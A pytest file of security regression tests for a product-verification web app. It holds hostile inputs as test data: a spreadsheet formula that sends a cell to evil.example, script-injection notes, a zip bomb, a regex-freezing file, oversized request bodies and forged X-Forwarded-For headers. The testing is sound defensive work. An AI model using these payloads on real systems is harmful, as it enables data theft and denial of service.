"""Defects found by attack reviews, each reproduced and shown fixed.

Issue 14: spreadsheet formulas in exported CSV, decomposed Unicode ids, huge text fields, raw
tracebacks, history search wildcards, staged files left behind.

Issue 25 (docs/reliability.md, "Attack review, round two"): forged case files, a server one
upload could freeze, unbounded request bodies, the queue limit bypassed, forwarded headers
believed, the audit log and deep links open, overturned checks not said, anonymous disk growth,
barcode text rendered as Markdown, login timing, cross-site changes, product fields without
limits, a tuning process per change, file errors as tracebacks, and unlimited text from codes.
Where the defect is in the app, the test runs against the real app (``running_app``, or
``strict_app`` with a small queue budget) over HTTP.
"""

from __future__ import annotations

import csv
import json
import select
import socket
import sqlite3
import subprocess
import threading
import time
import unicodedata
from pathlib import Path

import pytest
from PIL import Image

from conftest import PYTHON, ROOT, SERVER_PIDS, demo_photo

# ---- talking to the running app as a browser or a script does ------------------------------

_CONFIGS: dict[str, dict] = {}


def _dependency(url: str, name: str) -> dict:
    """The event named ``name`` (Gradio names private events too: ``page_data``, ``check_report``)."""
    import httpx

    if url not in _CONFIGS:
        _CONFIGS[url] = httpx.get(url + "config", timeout=30).json()
    for dependency in _CONFIGS[url]["dependencies"]:
        if dependency.get("api_name") == name:
            return dependency
    raise AssertionError(f"no event {name} in the app")


def event(url: str, name: str | dict, data: list, cookies: dict | None = None, headers: dict | None = None,
          timeout: float = 120) -> list:
    """Run one of the page's events (by name, or its dependency) as the page does (queued ones
    through /queue/join and the event stream, browsing ones through /run/predict); its outputs, or
    AssertionError with the error it showed."""
    import uuid

    import httpx

    dependency = name if isinstance(name, dict) else _dependency(url, name)
    session = uuid.uuid4().hex[:10]
    body = {"data": data, "fn_index": dependency["id"], "session_hash": session, "event_data": None,
            "trigger_id": None}
    with httpx.Client(base_url=url, cookies=cookies, headers=headers, timeout=timeout) as client:
        if not dependency["queue"]:
            response = client.post("gradio_api/run/predict", json=body)
            response.raise_for_status()
            return response.json()["data"]
        joined = client.post("gradio_api/queue/join", json=body)
        joined.raise_for_status()
        with client.stream("GET", "gradio_api/queue/data", params={"session_hash": session}) as stream:
            for line in stream.iter_lines():
                if not line.startswith("data:"):
                    continue
                message = json.loads(line[5:])
                if message.get("msg") == "process_completed":
                    if not message.get("success"):
                        raise AssertionError(message.get("output", {}).get("error") or message)
                    return message["output"]["data"]
    raise AssertionError("the event stream ended without a result")


def upload(url: str, path: Path) -> dict:
    """A file uploaded as the page uploads it; the value a File input then sends."""
    import httpx

    with open(path, "rb") as handle:
        response = httpx.post(url + "gradio_api/upload", files={"files": (path.name, handle)}, timeout=60)
    response.raise_for_status()
    return {"path": response.json()[0], "orig_name": path.name, "meta": {"_type": "gradio.FileData"}}


def login(url: str) -> dict:
    import httpx

    from conftest import ADMIN_PASSWORD, ADMIN_USER

    response = httpx.post(url + "session/login", json={"name": ADMIN_USER, "password": ADMIN_PASSWORD}, timeout=30)
    assert response.json()["outcome"] == "ok", response.text
    return {"verifier_session": response.cookies["verifier_session"]}


def rss_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise AssertionError("no VmRSS")


def verify_report(*args) -> subprocess.CompletedProcess:
    return subprocess.run([PYTHON, str(ROOT / "scripts" / "verify_report.py"), *map(str, args)],
                          capture_output=True, text=True, timeout=120)


def test_batch_results_csv_cells_never_run_as_spreadsheet_formulas(service, tmp_path):
    """Before: a case id =HYPERLINK(...), a claim =1+2 were written as they came."""
    photo = demo_photo("Oatly-Oat-Milk_001.jpg")
    manifest = tmp_path / "listings.csv"
    with open(manifest, "w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["path", "claimed_product_id", "case_id"])
        writer.writerow([photo.name, "=1+2", '=HYPERLINK("http://evil.example/?"&A1,"Click")'])
        writer.writerow([photo.name, "@SUM(A1)", "-2+3"])
    result = service.check_batch(str(manifest), [str(photo)])
    with open(result.csv_path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))[1:]
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=1+2" in rows[0] and "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" in rows[0]
    assert "'@SUM(A1)" in rows[1] and "'-2+3" in rows[1]


def test_a_claim_typed_in_decomposed_unicode_finds_the_composed_product(catalog_copy, offline_embedder, tmp_path):
    """Before: an NFD claim of an NFC id was 'not in catalog', and NFD imports made a twin product."""
    from index import Catalog, Verifier, import_references, read_products

    composed = "Sữa-Tươi-Vinamilk"
    decomposed = unicodedata.normalize("NFD", composed)
    assert composed != decomposed
    photo = demo_photo("Oatly-Oat-Milk_001.jpg")
    manifest = tmp_path / "products.csv"
    manifest.write_text(f"path,product_id\n{photo},{decomposed}\n", encoding="utf-8")
    other = tmp_path / "other.jpg"
    Image.open(demo_photo("Oatly-Oat-Milk_002.jpg")).save(other, quality=80)
    (tmp_path / "more.csv").write_text(f"path,product_id\n{other},{composed}\n", encoding="utf-8")
    with Catalog.open(catalog_copy, writable=True) as catalog:
        import_references(catalog, offline_embedder, read_products(manifest, allow_outside=True), progress=False)
        import_references(catalog, offline_embedder, read_products(tmp_path / "more.csv", allow_outside=True),
                          progress=False)
        assert [p.product_id for p in catalog.products() if "Vinamilk" in p.product_id] == [composed]
    verdict = Verifier(Catalog.open(catalog_copy), offline_embedder).check([photo], claimed_product_id=decomposed)
    assert "claimed_product_not_in_catalog" not in verdict.flags and verdict.claimed_product_id == composed


def test_history_search_treats_percent_underscore_and_nul_as_text(service):
    """Before: %, _ and NUL in the search matched every check."""
    service.check([str(demo_photo("Oatly-Oat-Milk_001.jpg"))], notes="plain note")
    service.check([str(demo_photo("Oatly-Oat-Milk_002.jpg"))], notes="50% off_sale")
    assert len(service.history.search("")) == 2
    assert [r.notes for r in service.history.search("%")] == ["50% off_sale"]
    assert [r.notes for r in service.history.search("_")] == ["50% off_sale"]
    assert service.history.search("\x00") == []


def test_huge_text_fields_are_refused_before_anything_is_kept(service):
    from ui.limits import LimitExceeded

    photo = str(demo_photo("Oatly-Oat-Milk_001.jpg"))
    for field in ("claimed", "inspector", "notes", "case_id"):
        with pytest.raises(LimitExceeded) as caught:
            service.check([photo], **{field: "x" * 10_000_000})
        assert caught.value.args_["field"] == field
    assert len(service.history) == 0


def test_a_manifest_with_a_giant_cell_is_refused_with_its_line(tmp_path):
    from index import ManifestError, read_queries

    manifest = tmp_path / "q.csv"
    manifest.write_text("path,claimed_product_id\na.jpg,ok\nb.jpg," + "x" * 200_000 + "\n")
    with pytest.raises(ManifestError, match="line 3"):
        read_queries(manifest)


def test_a_review_that_cannot_add_its_photos_saves_nothing(service, tmp_path):
    """Before: "a product id is needed" was shown, yet the review had been saved and audited."""
    from index.storing.audit import entries

    record = service.check([str(ROOT / "tests" / "data" / "Banana_001.jpg")])  # nothing claimed, nothing identified
    assert record.product_id is None and record.claimed_product_id is None
    from ui.tabs.common import user_error

    with pytest.raises(ValueError, match="nothing was saved") as refused:
        service.review("owner", record.check_id, "counterfeit", "seized", add_as="genuine", product_id="")
    assert service.history.get(record.check_id).review_verdict is None
    assert not [e for e in entries(service.catalog_dir) if e.action == "review_check"]
    # said in the page's language (it was the English sentence in a Vietnamese toast)
    assert user_error(refused.value, "vi") == (f"Lần kiểm tra #{record.check_id} không gắn với sản phẩm nào: hãy nhập "
                                               "mã sản phẩm cần thêm ảnh vào (chưa có gì được lưu).")
    with pytest.raises(KeyError) as missing:
        service.review("owner", 999999, "genuine", "")
    assert user_error(missing.value, "vi") == "Không có lần kiểm tra #999999 trong lịch sử."
    assert user_error(missing.value, "en") == "No check #999999 in the history."
    # a look-alike flagged as claimed: its photos are never filed under the claimed product by default
    flagged = service.check([str(demo_photo("Bravo-Orange-Juice_003_claimed-as-God-Morgon-Orange-Juice.jpg"))],
                            claimed="God-Morgon-Orange-Juice")
    assert flagged.result["verdict"] in ("suspicious", "unknown")
    before = service.catalog.stats()["references"]
    with pytest.raises(ValueError, match="nothing was saved"):
        service.review("owner", flagged.check_id, "genuine", "", add_as="genuine", product_id="")
    assert service.catalog.stats()["references"] == before
    assert service.history.get(flagged.check_id).review_verdict is None


def test_a_file_the_server_cannot_read_or_write_is_said_in_the_page_language_with_who_can_act():
    """Before: the operating system's English ("photo.jpg: no such file or directory") in a
    Vietnamese toast, and no word of what to do."""
    import errno

    from ui.tabs.common import _os_sentence

    gone = FileNotFoundError(errno.ENOENT, "No such file or directory", "/tmp/gradio/abc/anh-1.jpg")
    assert _os_sentence(gone, "vi") == "anh-1.jpg: tệp không còn nữa; hãy tải lên lại."
    assert _os_sentence(gone, "en") == "anh-1.jpg: the file is no longer there; upload it again."
    full = OSError(errno.ENOSPC, "No space left on device")
    assert _os_sentence(full, "vi") == "Ổ đĩa của máy chủ đã đầy; chưa có gì được lưu. Hãy báo quản trị viên."
    odd = OSError(errno.EIO, "Input/output error", "/srv/x/anh-2.jpg")
    assert _os_sentence(odd, "vi") == "anh-2.jpg: không đọc hoặc ghi được tệp (input/output error)."


@pytest.mark.parametrize("kind", ["another program's database", "not a database at all"])
def test_a_folder_whose_database_is_not_a_catalog_gets_a_sentence_and_stays_untouched(tmp_path, kind):
    """Before: 'no such table: meta' and index_catalog.py wrote a meta table into the foreign file."""
    folder = tmp_path / "catalog"
    folder.mkdir()
    database = folder / "references.sqlite"
    if kind == "another program's database":
        db = sqlite3.connect(database)
        db.execute("CREATE TABLE invoices (id INTEGER PRIMARY KEY, total REAL)")
        db.commit()
        db.close()
    else:
        database.write_bytes(b"PK\x03\x04 this is a zip, not SQLite" * 100)
    before = database.read_bytes()
    photo = demo_photo("Oatly-Oat-Milk_001.jpg")
    (tmp_path / "p.csv").write_text(f"path,product_id\n{photo},P\n")
    for command in (["scripts/index_catalog.py", str(folder), "--manifest", str(tmp_path / "p.csv"),
                     "--allow-outside-paths"], ["scripts/verify.py", str(folder), str(photo)]):
        result = subprocess.run([PYTHON, *command], cwd=ROOT, capture_output=True, text=True, timeout=300)
        assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
        assert "was not made by the verifier" in result.stderr or "not a catalog database" in result.stderr
    assert database.read_bytes() == before


def test_a_refused_zip_leaves_nothing_behind(service, tmp_path):
    """Before: a 1 MB zip of 1 GiB of zeros left 1 GiB in the work folder; 50,000 entries, 49,999 files."""
    import zipfile

    from ui.uploads import UploadError

    bomb = tmp_path / "zeros.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.jpg", b"\0" * (1100 * 1024**2))  # 1.1 GiB expanded, about 1 MB packed
    many = tmp_path / "many.zip"
    with zipfile.ZipFile(many, "w") as archive:
        for i in range(service.limits.zip_files + 1):
            archive.writestr(f"p{i}.jpg", b"x")
    for upload in (bomb, many):
        with pytest.raises(UploadError):
            service.check_batch(None, [str(upload)])
    left = [p for p in (service.work_dir / "downloads").rglob("*") if p.is_file()]
    assert left == []


def test_reports_are_written_once_per_state_of_a_check(service):
    record = service.check([str(demo_photo("Oatly-Oat-Milk_001.jpg"))])
    first = service.report_files(record, "vi")
    again = service.report_files(service.history.get(record.check_id), "vi")
    assert first == again
    assert len([p for p in (service.work_dir / "downloads").iterdir() if p.is_dir()]) == 1


def test_a_huge_upload_is_kept_reduced_and_named_by_what_was_uploaded(service, tmp_path):
    """Before: a 60 MB upload (a JPEG plus trailing bytes) was kept whole under checks/."""
    big = tmp_path / "padded.jpg"
    Image.open(demo_photo("Oatly-Oat-Milk_001.jpg")).resize((4000, 3000)).save(big, quality=95)
    with open(big, "ab") as handle:
        handle.write(b"\0" * 30 * 1024**2)
    record = service.check([str(big)])
    kept = record.photos[0]
    from vision.images import sha256_of

    assert kept.sha256 == sha256_of(big.read_bytes())
    assert (tmp_path / kept.path).stat().st_size < 2 * 1024**2


def test_work_folders_of_dead_app_processes_are_swept(tmp_path):
    from ui.service import WORK_PREFIX, sweep_work_dirs

    dead = tmp_path / f"{WORK_PREFIX}dead"
    (dead / "downloads").mkdir(parents=True)
    (dead / "pid").write_text("999999999")
    (dead / "downloads" / "report.html").write_text("inspector's notes")
    alive = tmp_path / f"{WORK_PREFIX}alive"
    alive.mkdir()
    import os

    (alive / "pid").write_text(str(os.getpid()))
    assert sweep_work_dirs(tmp_path) == 1
    assert not dead.exists() and alive.exists()


def test_old_checks_are_pruned_with_their_photos(service):
    record = service.check([str(demo_photo("Oatly-Oat-Milk_001.jpg"))])
    service.history.db.execute("UPDATE checks SET checked_at = '2020-01-01T00:00:00Z' WHERE check_id = ?",
                               (record.check_id,))
    kept = record.photos[0].path
    assert service.history.prune(30) == 1
    assert service.history.get(record.check_id) is None
    from pathlib import Path

    assert not Path(kept).exists()


def test_the_apps_work_folder_is_removed_when_it_is_stopped(catalog_copy, tmp_path):
    """Before: the work folder (reports with inspectors' photos and notes) survived SIGTERM."""
    import tempfile
    from pathlib import Path

    from conftest import app_server
    from ui.service import WORK_PREFIX

    before = set(Path(tempfile.gettempdir()).glob(f"{WORK_PREFIX}*"))
    with app_server(catalog_copy, tmp_path / "app.log"):
        mine = set(Path(tempfile.gettempdir()).glob(f"{WORK_PREFIX}*")) - before
        assert len(mine) == 1
    # app_server stops the app with SIGTERM, as a service manager does
    assert not any(p.exists() for p in mine), (tmp_path / "app.log").read_text()[-2000:]


def test_a_manifest_row_finds_the_photo_whose_name_the_upload_rewrote(service, tmp_path):
    """Before: `stall 12: front.jpg` came back "file not found" (Gradio drops ':' from upload names)."""
    import shutil

    uploaded = tmp_path / "stall 12 front.jpg"  # the name Gradio gives the upload
    shutil.copy(demo_photo("Oatly-Oat-Milk_001.jpg"), uploaded)
    manifest = tmp_path / "listings.csv"
    manifest.write_text('path,case_id\n"stall 12: front.jpg",S12\n')
    result = service.check_batch(str(manifest), [str(uploaded)])
    [row] = result.rows
    from ui.service import BATCH_COLUMNS

    assert row[0] == "S12" and "no_readable_photo" not in row[BATCH_COLUMNS.index("flags")]


def test_sessions_expire_when_idle_end_everywhere_on_logout_and_lock_out_by_address():
    """Before: the login was the Gradio session id (in URLs, replayable, no expiry), and five wrong
    passwords in the admin's name locked the admin out."""
    import time

    from ui.auth import MAX_FAILURES, Users
    from ui.sessions import LoginRefused, Sessions

    sessions = Sessions(Users({"VERIFIER_ADMIN_USER": "owner", "VERIFIER_ADMIN_PASSWORD": "s3cret"}), idle_s=0.5)
    laptop = sessions.login("owner", "s3cret", "10.0.0.5")
    phone = sessions.login("owner", "s3cret", "10.0.0.6")
    assert sessions.user(laptop) == sessions.user(phone) == "owner"
    assert sessions.user("a-guessed-or-replayed-token") is None
    sessions.logout(phone)
    assert sessions.user(laptop) is None and sessions.user(phone) is None  # logged out everywhere
    idle = sessions.login("owner", "s3cret", "10.0.0.5")
    time.sleep(0.7)
    assert sessions.user(idle) is None  # expired after the idle time
    for _ in range(MAX_FAILURES):
        with pytest.raises(LoginRefused):
            sessions.login("owner", "wrong", "203.0.113.9")
    with pytest.raises(LoginRefused) as caught:
        sessions.login("owner", "s3cret", "203.0.113.9")
    assert caught.value.key == "login_locked"
    assert sessions.user(sessions.login("owner", "s3cret", "10.0.0.5")) == "owner"  # the real owner is not locked out


def test_the_login_cookie_is_http_only_and_same_site_and_changes_need_it(running_app):
    import json
    import urllib.request

    from conftest import ADMIN_PASSWORD, ADMIN_USER

    url, _ = running_app
    request = urllib.request.Request(url + "session/login", method="POST", headers={"Content-Type": "application/json"},
                                     data=json.dumps({"name": ADMIN_USER, "password": ADMIN_PASSWORD}).encode())
    with urllib.request.urlopen(request, timeout=30) as response:
        cookie = response.headers["Set-Cookie"]
        assert json.loads(response.read())["outcome"] == "ok"
    assert "verifier_session=" in cookie and "HttpOnly" in cookie and "SameSite=strict" in cookie.replace("Strict", "strict")
    wrong = urllib.request.Request(url + "session/login", method="POST", headers={"Content-Type": "application/json"},
                                   data=json.dumps({"name": ADMIN_USER, "password": "nope"}).encode())
    with pytest.raises(urllib.error.HTTPError) as caught:
        urllib.request.urlopen(wrong, timeout=30)
    assert caught.value.code == 401


def test_a_catalog_change_without_a_live_session_is_refused(service):
    from ui.service import NotAllowed

    token = service.sessions.login("owner", "s3cret", "127.0.0.1")
    assert service.sessions.user(token) == "owner"
    service.sessions.logout(token)
    with pytest.raises(NotAllowed):
        service.remove_product(service.sessions.user(token), "Oatly-Oat-Milk")


def test_one_address_cannot_fill_the_queue():
    """Before: 80 quick requests filled the queue of 64 and other users got 503 Queue is full."""
    from ui.fairness import JoinLimiter

    limiter = JoinLimiter(jobs=8, window_s=30)
    burst = [limiter.allow("198.51.100.7") for _ in range(80)]
    assert sum(burst) == 8  # 72 refused with a 429 and a sentence to wait, the queue keeps 56 places free
    assert limiter.allow("192.0.2.44")  # another user is not affected


@pytest.fixture(scope="module")
def strict_app(demo_catalog_dir, tmp_path_factory):
    """The app with a small queue budget (5 jobs per 30 s per address) and its user in a users file
    (a hashed password, as a deployment keeps it), on its own copy of the demo catalog. Its tests
    run in this file's order; the one that locks loopback out of logging in comes last."""
    from conftest import ADMIN_PASSWORD, ADMIN_USER, app_server, copy_catalog
    from ui.auth import hash_password

    folder = tmp_path_factory.mktemp("strict")
    catalog = copy_catalog(demo_catalog_dir, folder / "catalog")
    users = folder / "users.txt"
    users.write_text(f"{ADMIN_USER}:{hash_password(ADMIN_PASSWORD)}\n", encoding="utf-8")
    env = {"VERIFIER_MAX_QUEUE_JOBS": "5", "VERIFIER_USERS_FILE": str(users), "VERIFIER_ADMIN_USER": "",
           "VERIFIER_ADMIN_PASSWORD": ""}
    with app_server(catalog, folder / "app.log", env=env) as url:
        yield url, catalog


def test_every_route_into_the_queue_shares_one_budget_whatever_x_forwarded_for_says(strict_app):
    """Before: only /queue/join was counted (/gradio_api/call/{api} and /call/v2/{api} joined the
    same queue unlimited: the queue stayed full for 40 s and another user got 503 on 37 of 40
    tries), /gradio_api/run/predict ran a check beside the queue, and X-Forwarded-For was believed
    from loopback, so a client rotating it was a new address each time."""
    import httpx

    url, _ = strict_app
    verify = _dependency(url, "verify")["id"]
    fields = {"files": [], "claimed": None, "inspector": "", "notes": "", "language": "en", "case_id": "", "place": ""}
    routes = [("gradio_api/queue/join", lambda i: {"fn_index": verify, "data": list(fields.values()),
                                                   "session_hash": f"burst{i}"}),
              ("gradio_api/call/verify", lambda i: {"data": list(fields.values())}),
              ("gradio_api/call/v2/verify", lambda i: fields)]
    codes = []
    with httpx.Client(base_url=url, timeout=30) as client:
        for i in range(12):
            route, body = routes[i % len(routes)]
            response = client.post(route, json=body(i), headers={"X-Forwarded-For": f"203.0.113.{i + 1}"})
            codes.append(response.status_code)
            if response.status_code == 429:
                assert "Wait a moment" in response.text and response.headers["retry-after"] == "30"
        assert codes.count(429) == 7, codes  # 5 let through, whatever route or forwarded address
        # the queue cannot be skipped: the direct routes run no check
        for route, body in (("gradio_api/run/verify", {"data": list(fields.values())}),
                            ("gradio_api/run/predict", {"fn_index": verify, "data": list(fields.values()),
                                                        "session_hash": "direct"})):
            assert client.post(route, json=body).status_code == 404
        assert client.get("/").status_code == 200  # the page still loads
    # reading barcodes joins the queue in a lane of its own: it counts against the same budget
    assert _dependency(url, "scan_photos")["queue"]


def test_forwarded_headers_are_believed_only_from_the_proxies_the_operator_names():
    from ui.sessions import trusted_proxies, uvicorn_proxy_settings

    assert uvicorn_proxy_settings({}) == {"proxy_headers": False, "forwarded_allow_ips": ""}
    named = {"VERIFIER_TRUSTED_PROXIES": "127.0.0.1, 10.0.0.0/24"}
    assert uvicorn_proxy_settings(named) == {"proxy_headers": True, "forwarded_allow_ips": "127.0.0.1,10.0.0.0/24"}
    with pytest.raises(ValueError, match="VERIFIER_TRUSTED_PROXIES"):
        trusted_proxies({"VERIFIER_TRUSTED_PROXIES": "nginx.local"})


def test_a_catalog_made_before_originals_were_kept_migrates_from_readable_sources(catalog_copy):
    """Before: the catalog kept only thumbnails and the source path (a temporary upload folder in
    the app); now each reference's photo is kept, and older catalogs copy theirs in."""
    import shutil
    from pathlib import Path

    from index import Catalog

    shutil.rmtree(catalog_copy / "originals", ignore_errors=True)  # as a catalog made before
    with Catalog.open(catalog_copy) as catalog:
        refs = catalog.references()
        gone = refs[0]
        assert all(catalog.original_path(r) == Path(r.source_path) for r in refs)
    with sqlite3.connect(catalog_copy / "references.sqlite") as db:  # one source no longer readable
        db.execute("UPDATE refs SET source_path = ? WHERE image_id = ?", (str(catalog_copy / "gone.jpg"), gone.image_id))
    result = subprocess.run([PYTHON, "scripts/manage_catalog.py", str(catalog_copy), "keep-originals"], cwd=ROOT,
                            capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr
    assert f"copied {len(refs) - 1} original photos" in result.stdout and "1 could not be found" in result.stdout
    with Catalog.open(catalog_copy) as catalog:
        kept = [catalog.original_path(r) for r in refs[1:]]
        assert all(p.parent.parent.name == "originals" and p.is_file() for p in kept)


# ---- issue 25: attack review, round two ------------------------------------------------------

#: What an attacker writes in a check's notes: a fake badge over the page and a script.
HOSTILE_NOTES = ("<div style='position:fixed;inset:0;background:#fff'><h1>GENUINE &#10004;</h1></div>"
                 "<script>document.title='pwned'</script> & <!--verification-block-->")


def test_a_json_case_file_renamed_html_is_refused_and_its_markup_is_escaped(service, running_app, tmp_path):
    """Before: a check whose notes held a fake badge and a script, its signed JSON renamed .html,
    was ✔ in Status → Check a case file and in verify_report.py, and a browser ran the script."""
    record = service.check([str(demo_photo("Oatly-Oat-Milk_001.jpg"))], notes=HOSTILE_NOTES)
    html_path, json_path = service.report_files(record, "en")
    raw = json_path.read_bytes()
    assert not {ord("<"), ord(">"), ord("&")} & set(raw)  # \u003c, \u003e, \u0026: never markup
    assert b"\\u003cscript\\u003e" in raw and json.loads(raw)["notes"] == HOSTILE_NOTES
    renamed = tmp_path / json_path.with_suffix(".html").name
    renamed.write_bytes(raw)
    checked = verify_report(json_path, html_path, renamed, "--public-key", service.signing_key.public_path)
    assert checked.returncode == 1, checked.stdout
    lines = checked.stdout.splitlines()
    assert lines[0].startswith("verified") and lines[1].startswith("verified")
    assert lines[2].startswith("NOT VERIFIED") and "issued as JSON and named .html" in lines[2]
    nameless = tmp_path / "report"  # saved without its suffix: the format is said on the command line
    nameless.write_bytes(raw)
    said = [verify_report(nameless, "--format", kind, "--public-key", service.signing_key.public_path).stdout
            for kind in ("json", "html")]
    assert said[0].startswith("verified") and said[1].startswith("NOT VERIFIED")

    url, _ = running_app  # the same deployment key: the app checks what the service signed
    said = {path.name: event(url, "check_report", [upload(url, path), language])[0]
            for path, language in ((json_path, "en"), (html_path, "en"), (renamed, "en"))}
    assert "issued by this system" in said[json_path.name] and "issued by this system" in said[html_path.name]
    assert "NOT VERIFIED" in said[renamed.name] and "issued as JSON and is named .html" in said[renamed.name]
    [vietnamese] = event(url, "check_report", [upload(url, renamed), "vi"])
    assert "KHÔNG HỢP LỆ" in vietnamese and "được cấp dạng JSON" in vietnamese
    # a photo given as the case file is said to be no case file, not a tampered one
    photo = tmp_path / "casefile.png"
    photo.write_bytes(demo_photo("Oatly-Oat-Milk_001.jpg").read_bytes())
    [said] = event(url, "check_report", [upload(url, photo), "vi"])
    assert "casefile.png không phải biên bản kiểm tra" in said and "KHÔNG HỢP LỆ" not in said


def test_reports_issued_before_still_verify_and_only_in_their_own_format(tmp_path):
    """Reports signed before the format was signed (CPV1: the bytes alone) still verify, in the
    format they were issued in. A JSON whose notes held the HTML placeholder, with an HTML block
    put in its place, verified as HTML before; it is refused."""
    from ui.signing import (HTML_PLACEHOLDER, JSON_PLACEHOLDER, LEGACY_PREFIX, ReportNotVerified, SigningKey,
                            html_block, verify_report)

    key = SigningKey.load_or_create(tmp_path / "keys")
    page = '<!doctype html><html lang="en"><body><p>#1</p>' + HTML_PLACEHOLDER + "</body></html>"
    old_html = page.replace(HTML_PLACEHOLDER, html_block(key.fingerprint, key.sign(page.encode()), "en",
                                                         LEGACY_PREFIX)).encode()
    text = '{\n  "notes": "<b>raw, as before</b>",\n  "verification": null\n}'
    old_json = text.replace(JSON_PLACEHOLDER, '"verification": ' + json.dumps(
        {"key": key.fingerprint, "signature": key.sign(text.encode())})).encode()
    assert verify_report(old_html, key.public, "check-1-en.html").scheme == "CPV1"
    assert verify_report(old_json, key.public, "check-1.json").scheme == "CPV1"
    for data, name in ((old_json, "check-1.html"), (old_html, "check-1.json"), (old_html, "check-1.txt")):
        with pytest.raises(ReportNotVerified):
            verify_report(data, key.public, name)
    # the forgery: an old JSON report whose notes were the HTML placeholder, the block put in its place
    notes = '{\n  "notes": "<div>GENUINE</div><script>x()</script>' + HTML_PLACEHOLDER + '",\n  "verification": null\n}'
    forged = notes.replace(HTML_PLACEHOLDER, html_block(key.fingerprint, key.sign(notes.encode()), "en",
                                                        LEGACY_PREFIX)).encode()
    for name in ("forged.html", "forged.json"):
        with pytest.raises(ReportNotVerified):
            verify_report(forged, key.public, name)


def _openers(size: int, doctype: bool = True) -> bytes:
    opener = (b'<section class="verification" data-key="0123456789abcdef" data-lang="en" data-signature="'
              + b"A" * 86 + b'">')
    return (b"<!doctype html>" if doctype else b"") + opener * (size // len(opener))


def test_a_file_of_verification_openers_is_answered_within_a_second(tmp_path):
    """Before: the `.*?` of the block's regex re-scanned from every opener: 354 KB froze the server
    6.6 s, 708 KB 20.6 s, and verify_report.py gave no answer on 1.7 MB within 60 s."""
    files = []
    for name, data in (("openers.html", _openers(1_700_000)), ("bare.html", _openers(1_700_000, doctype=False)),
                       ("openers.json", b"{" + _openers(1_700_000, doctype=False))):
        (tmp_path / name).write_bytes(data)
        files.append(tmp_path / name)
    from ui.signing import SigningKey

    key = SigningKey.load_or_create(tmp_path / "keys")
    started = time.monotonic()
    checked = subprocess.run([PYTHON, str(ROOT / "scripts" / "verify_report.py"), *map(str, files), "--public-key",
                              str(key.public_path)], capture_output=True, text=True, timeout=60)
    elapsed = time.monotonic() - started
    assert checked.returncode == 1 and checked.stdout.count("NOT VERIFIED") == 3, checked.stdout
    assert "verification blocks" in checked.stdout.splitlines()[0]
    assert elapsed < 10.0, elapsed  # the interpreter's start included (about a second on an idle machine)
    from ui.signing import ReportNotVerified
    from ui.signing import verify_report as check

    for path in files:  # the check itself
        started = time.monotonic()
        with pytest.raises(ReportNotVerified):
            check(path.read_bytes(), key.public, path.name)
        assert time.monotonic() - started < 1.0  # milliseconds, in fact


def test_a_hostile_case_file_in_the_app_delays_nobody(running_app, tmp_path):
    """Before: one upload of such a file to Check a case file froze the whole server."""
    url, _ = running_app
    hostile = tmp_path / "case.html"
    hostile.write_bytes(_openers(708_000))
    file = upload(url, hostile)
    answers = {}

    def check():
        started = time.monotonic()
        answers["hostile"] = event(url, "check_report", [file, "en"])[0], time.monotonic() - started

    worker = threading.Thread(target=check)
    worker.start()
    started = time.monotonic()
    status = event(url, "status_text", ["en"])[0]
    others = time.monotonic() - started
    worker.join(60)
    assert "Catalog" in status and others < 3.0, others
    said, took = answers["hostile"]
    assert "NOT VERIFIED" in said and "verification blocks" in said and took < 3.0, (said, took)


def test_case_files_are_checked_in_a_bounded_pool_with_a_size_and_time_limit(tmp_path, monkeypatch):
    import asyncio

    import ui.casefile
    from ui.casefile import CaseFileChecker
    from ui.signing import ReportNotVerified, SigningKey

    key = SigningKey.load_or_create(tmp_path / "keys")
    checker = CaseFileChecker(key.public, workers=1, waiting=1, time_limit_s=0.5, max_bytes=1024**2)
    huge = tmp_path / "huge.html"
    with open(huge, "wb") as handle:  # 60 MB, sparse: refused by its size, never read
        handle.truncate(60 * 1024**2)
    with pytest.raises(ReportNotVerified) as caught:
        asyncio.run(checker.check(huge))
    assert caught.value.reason == "too_large"

    def slow(*args, **kwargs):  # a check that would not end on its own
        time.sleep(1.5)
        raise ReportNotVerified("slow", "changed")

    monkeypatch.setattr(ui.casefile, "verify_report", slow)
    small = tmp_path / "small.html"
    small.write_bytes(b"<!doctype html>")

    async def three_at_once():
        return await asyncio.gather(*(checker.check(small) for _ in range(3)), return_exceptions=True)

    started = time.monotonic()
    reasons = sorted(r.reason for r in asyncio.run(three_at_once()))
    assert reasons == ["busy", "timeout", "timeout"] and time.monotonic() - started < 1.4


def test_request_bodies_are_limited_as_they_arrive(running_app):
    """Before: an 800 MB body to /session/login cost +1.53 GB, and a 400 MB one to
    /gradio_api/run/predict +1.19 GB, before any size check. Now a declared length over the route's
    limit is answered 413 before the body is sent, and a streamed one is cut off as it passes it."""
    url, _ = running_app
    pid = SERVER_PIDS[url]
    port = int(url.rstrip("/").rsplit(":", 1)[1])
    before = rss_mb(pid)
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(b"POST /session/login HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                     b"Content-Length: 838860800\r\n\r\n")
        assert sock.recv(64).startswith(b"HTTP/1.1 413")  # the 800 MB were never sent
    chunk = b"x" * 65536
    frame = b"%x\r\n" % len(chunk) + chunk + b"\r\n"
    for path in ("/gradio_api/run/predict", "/gradio_api/queue/join", "/session/login"):
        with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
            sock.sendall(f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                         "Transfer-Encoding: chunked\r\n\r\n".encode())
            sent = 0
            while sent < 200 * 1024**2 and not select.select([sock], [], [], 0)[0]:
                try:
                    sock.sendall(frame)
                except OSError:  # the server closed the connection after its answer
                    break
                sent += len(chunk)
            answer = sock.recv(64)
        assert answer.startswith(b"HTTP/1.1 413"), (path, answer)
        assert sent < 32 * 1024**2, (path, sent)  # the answer came while the body was still being sent
    assert rss_mb(pid) - before < 64


def _component(url: str, elem_id: str) -> dict:
